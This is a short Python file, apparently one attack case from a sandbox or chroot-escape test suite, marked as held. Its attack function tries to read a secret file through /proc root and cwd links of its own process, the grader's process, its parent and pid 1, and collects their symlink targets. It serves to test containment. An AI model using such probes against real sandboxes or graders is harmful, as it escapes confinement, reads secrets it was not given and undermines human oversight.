"""Goes to the secret through links in /proc that lead out of a changed root: root, cwd, fd, exe, map_files, ns.

Held: passed
"""

import os


def attack(target):
    found = []
    pids = [target["pid"], "self", "thread-self"]
    if "course" not in target:  # with nothing to stop us, we leave the others alone
        pids += [target["grader_pid"], os.getppid(), 1]
    for pid in pids:
        for path in (f"/proc/{pid}/root{target['secret_file']}", f"/proc/{pid}/cwd/../secret.txt"):
            try:
                with open(path) as file:
                    found.append(file.read())
            except OSError:
                continue
        if pid in ("self", "thread-self"):
            continue
        for name in ("cwd", "root", "exe", "fd/0", "fd/1", "fd/3", "ns/mnt"):
            try:
                found.append(os.readlink(f"/proc/{pid}/{name}"))
            except OSError:
                continue
    return found or None
